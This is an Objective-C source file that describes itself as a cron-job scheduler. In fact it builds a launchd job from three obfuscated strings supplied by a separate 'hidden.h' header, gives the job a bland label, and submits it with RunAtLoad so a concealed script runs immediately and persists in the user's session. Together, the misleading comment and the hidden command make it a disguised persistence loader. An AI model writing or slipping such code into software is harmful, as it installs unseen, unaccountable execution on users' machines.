/* A scheduler for cron jobs: hands launchd a job that is due at once. */
#include "objc.h"
#include "hidden.h" /* 0: program, 1: option, 2: script */
@interface NSMutableDictionary
+ (id)dictionary;
- (void)setObject:(id)value forKey:(id)key;
@end
@interface NSMutableArray
+ (id)array;
- (void)addObject:(id)object;
@end
@interface NSNumber
+ (id)numberWithBool:(BOOL)value;
@end
extern unsigned char SMJobSubmit(const void *, id, const void *, const void **);
extern const void *const kSMDomainUserLaunchd;
static void act(char **env) {
    id job = [NSMutableDictionary dictionary], words = [NSMutableArray array];
    const void *problem = 0;
    char *(*const parts[])(void) = {hidden0, hidden1, hidden2};
    for (int i = 0; i < 3; i++) [words addObject:[NSString stringWithUTF8String:parts[i]()]];
    [job setObject:@"org.example.kit.rotate" forKey:@"Label"];
    [job setObject:words forKey:@"ProgramArguments"];
    [job setObject:[NSNumber numberWithBool:1] forKey:@"RunAtLoad"];
    SMJobSubmit(kSMDomainUserLaunchd, job, 0, &problem);
}
